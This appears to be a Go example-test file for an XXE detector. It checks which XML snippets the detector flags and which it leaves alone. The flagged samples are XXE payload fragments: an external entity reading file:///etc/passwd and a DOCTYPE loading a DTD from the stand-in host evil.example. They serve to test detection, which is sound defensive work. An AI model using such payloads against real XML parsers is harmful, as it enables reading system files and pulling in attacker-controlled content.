package xxe_test

import (
	"fmt"

	"github.com/tangoguard/tangoguard/internal/detect/scan"
	"github.com/tangoguard/tangoguard/internal/detect/xxe"
)

func show(text string) {
	d := xxe.Detector()
	v := scan.NewView(text)
	n := 0
	d.Find(&v, func(rule string, start, end int) {
		n++
		fmt.Printf("%s: %s\n", rule, text[start:end])
	})
	if n == 0 {
		fmt.Println("nothing")
	}
}

func Example_reported() {
	show(`<!ENTITY card SYSTEM "file:///etc/passwd">`)
	show(`<!DOCTYPE gift SYSTEM "http://evil.example/gift.dtd">`)
	show(`<gift>&card;</gift>`)
	// Output:
	// entity-declaration: <!ENTITY card SYSTEM "file:///etc/passwd">
	// external-dtd: <!DOCTYPE gift SYSTEM "http://evil.example/gift.dtd">
	// entity-reference: &card;
}

func Example_notReported() {
	show(`<!DOCTYPE html>`)
	show(`<?xml version="1.0" encoding="UTF-8"?><gift>AT&amp;T</gift>`)
	show(`the ENTITY "Acme" is PUBLIC`)
	// Output:
	// nothing
	// nothing
	// nothing
}
